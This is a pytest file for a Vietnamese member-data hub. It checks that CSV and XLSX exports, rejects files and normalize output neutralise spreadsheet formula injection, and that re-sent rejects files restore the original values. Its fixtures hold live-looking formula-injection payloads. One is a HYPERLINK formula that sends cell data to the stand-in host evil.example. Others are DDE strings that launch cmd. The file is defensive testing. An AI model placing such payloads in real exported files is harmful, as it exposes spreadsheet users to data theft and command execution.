"""CSV/formula injection: no cell of a CSV or XLSX the hub writes for people can run in a spreadsheet — rejects.csv,
the web's rejects.xlsx, published ``records?format=csv``, the catalogue download and ``normalize`` output — and a
rejects file sent back as it is gives the values first sent (issue 12, rows 4 and 14)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import httpx
import pyarrow as pa
import pytest
from openpyxl import load_workbook

from lienthong.spreadsheet_safety import (
    is_dangerous,
    neutralise,
    neutralise_array,
    unneutralise,
    unneutralise_array,
)
from tests.lienthong.api.conftest import Server
from tests.lienthong.api.test_pii import sign_in
from tests.lienthong.conftest import MEMBER_COLUMNS

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"
# member_id, full_name, date_of_birth, phone, address, branch. HV101: not a name (refused); HV102: impossible
# date (refused, fixed and re-sent) with formula-like address and branch; HV103: valid, with a DDE address.
ROWS = [
    ("HV101", HYPERLINK, "01/02/1985", "", "Số 1 Hàng Bạc", "Chi hội 1"),
    ("HV102", "Trần Thị Lan", "31/02/1990", "+84 983 123 456", "-Số 5 ngõ 3", "@Chi hội 2"),
    ("HV103", "Lê Thị Mai", "01/02/1985", "0377 123 456", DDE, "+Chi hội 3"),
]
VALUES = ["=1+1", "+84 912 345 678", "-5", "-1.500.000", "@SUM(A1)", "\t=1", "\r=1", "Nguyễn Thị Hoà", DDE, "",
          "+", "-", "=", "+84912345678x", "-2+3+cmd|' /C calc'!A0", "'=already quoted", "H'Hen Niê"]


def feed(rows: list[tuple[str, ...]]) -> bytes:
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=";", lineterminator="\n")
    writer.writerow(MEMBER_COLUMNS.values())
    for member_id, name, dob, phone, address, branch in rows:
        values = {"member_id": member_id, "full_name": name, "sex": "Nữ", "date_of_birth": dob, "id_number": "",
                  "phone": phone, "ethnicity_code": "Kinh", "religion_code": "Không", "ward_code": "00070",
                  "address": address, "branch": branch, "joined_on": "", "status": "active"}
        writer.writerow([values[f] for f in MEMBER_COLUMNS])
    return ("\ufeff" + buf.getvalue()).encode()


def cells(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";" if ";" in body.split("\n")[0] else ","))


def assert_inert(rows: list[list[str]]) -> None:
    dangerous = [c for row in rows for c in row if is_dangerous(c)]
    assert dangerous == []


def test_neutralise_prefixes_formulas_but_not_plain_numbers_and_is_undone() -> None:
    out = [neutralise(v) for v in VALUES]
    assert out[:8] == ["'=1+1", "+84 912 345 678", "-5", "-1.500.000", "'@SUM(A1)", "'\t=1", "'\r=1",
                       "Nguyễn Thị Hoà"]
    assert out[8] == "'" + DDE and out[-3] == "'-2+3+cmd|' /C calc'!A0"
    assert out[-2:] == ["'=already quoted", "H'Hen Niê"]  # already text to a spreadsheet; names with ' untouched
    assert not any(is_dangerous(v) for v in out)
    assert neutralise(None) is None and neutralise(5) == 5
    # the Arrow path (normalize output, the clean stage) agrees with the Python one, and undoing is exact
    assert neutralise_array(pa.array(VALUES)).to_pylist() == out
    back = [unneutralise(v) for v in out]
    assert back[:-2] == VALUES[:-2] and unneutralise_array(pa.array(out)).to_pylist() == back


@pytest.fixture
def pushed(server: Server) -> tuple[Server, str]:
    with server.client("hlhpn") as c:
        r = c.post("/api/v1/feeds/hlhpn_push/batches", content=feed(ROWS), params={"wait": "true"},
                   headers={"Content-Type": "text/csv"})
    r.raise_for_status()
    assert r.json()["rows_quarantined"] == 2 and r.json()["rows_published"] == 1
    return server, r.json()["batch_id"]


def published_members(server: Server) -> dict[str, dict]:
    with server.client("admin") as c:
        records = c.get("/api/v1/datasets/members/records").json()["records"]
    return {r["record_key"].split(":")[-1]: r for r in records}


@pytest.mark.integration
def test_rejects_csv_is_inert_and_sent_back_as_it_is_gives_the_same_values(pushed: tuple[Server, str]) -> None:
    server, batch = pushed
    with server.client("hlhpn") as c:
        body = c.get(f"/api/v1/feeds/hlhpn_push/batches/{batch}/rejects.csv").text
    rows = cells(body)
    assert_inert(rows)
    by_id = {r["Mã hội viên"]: r for r in (dict(zip(rows[0], row, strict=True)) for row in rows[1:])}
    assert by_id["HV101"]["Họ và tên"] == "'" + HYPERLINK
    hv102 = by_id["HV102"]
    assert hv102["Số điện thoại"] == "+84 983 123 456"  # a phone written the international way is left alone
    assert (hv102["Địa chỉ"], hv102["Chi hội"]) == ("'-Số 5 ngõ 3", "'@Chi hội 2")

    fixed = body.replace("31/02/1990", "28/02/1990")  # the clerk fixes the date and sends the file back as it is
    with server.client("hlhpn") as c:
        again = c.post("/api/v1/feeds/hlhpn_push/batches", content=fixed.encode(), params={"wait": "true"},
                       headers={"Content-Type": "text/csv"}).json()
    assert again["rows_published"] == 1 and again["rows_quarantined"] == 1
    assert [q["reasons"][0]["rule"] for q in again["quarantined"]] == ["name_markup"]
    hv102 = published_members(server)["HV102"]
    assert (hv102["address"], hv102["branch"], hv102["phone"]) == ("-Số 5 ngõ 3", "@Chi hội 2", "0983123456")


@pytest.mark.integration
def test_published_records_csv_and_the_catalogue_download_are_inert(pushed: tuple[Server, str]) -> None:
    server, _ = pushed
    assert published_members(server)["HV103"]["address"] == DDE  # stored as sent: only spreadsheets are guarded
    with server.client("admin") as c:
        api_rows = cells(c.get("/api/v1/datasets/members/records", params={"format": "csv"}).text)
        ndjson = c.get("/api/v1/datasets/members/records", params={"format": "ndjson"}).text
    assert_inert(api_rows)
    header = api_rows[0]
    hv103 = next(r for r in api_rows[1:] if r[0].endswith(":HV103"))
    assert hv103[header.index("address")] == "'" + DDE and hv103[header.index("branch")] == "'+Chi hội 3"
    machine = [json.loads(line) for line in ndjson.splitlines()]
    assert DDE in {r.get("address") for r in machine}  # machine formats carry the value as it is
    with httpx.Client(base_url=server.url, timeout=60) as web:
        sign_in(web, server.tokens["hlhpn"])
        download = web.get("/catalogue/members/records.csv")
    assert download.status_code == 200
    web_rows = cells(download.text)
    assert_inert(web_rows)
    assert "'" + DDE in {c for r in web_rows for c in r}


@pytest.mark.integration
def test_rejects_xlsx_holds_no_formula_and_sent_back_gives_the_same_values(pushed: tuple[Server, str]) -> None:
    server, batch = pushed
    with httpx.Client(base_url=server.url, timeout=60) as web:
        sign_in(web, server.tokens["hlhpn"])
        r = web.get(f"/batches/hlhpn_push/{batch}/rejects.xlsx")
    assert r.status_code == 200
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)  # no formula element anywhere
    wb = load_workbook(io.BytesIO(r.content))
    ws = wb.active
    values = [[c.value for c in row] for row in ws.iter_rows()]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert_inert([[str(v) for v in row if v is not None] for row in values])
    assert "'" + HYPERLINK in {v for row in values for v in row}

    header = values[0]
    for row in ws.iter_rows(min_row=2):  # fix the date in Excel and send the workbook back as it is
        if row[header.index("Ngày sinh")].value == "31/02/1990":
            row[header.index("Ngày sinh")].value = "28/02/1990"
    buf = io.BytesIO()
    wb.save(buf)
    xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    with server.client("hlhpn") as c:
        again = c.post("/api/v1/feeds/hlhpn_push/batches", content=buf.getvalue(), params={"wait": "true"},
                       headers={"Content-Type": xlsx}).json()
    assert again["rows_published"] == 1, again
    hv102 = published_members(server)["HV102"]
    assert (hv102["address"], hv102["branch"]) == ("-Số 5 ngõ 3", "@Chi hội 2")


def test_normalize_output_is_inert(tmp_path: Path) -> None:
    from lienthong.cli.files import normalize

    source = tmp_path / "hoi_vien.csv"
    source.write_bytes(feed(ROWS))
    out = tmp_path / "out.csv"
    normalize(source, out)
    rows = cells(out.read_text(encoding="utf-8-sig"))
    assert_inert(rows)
    flat = {c for r in rows for c in r}
    assert "'" + HYPERLINK in flat and "'" + DDE in flat and "'-Số 5 ngõ 3" in flat
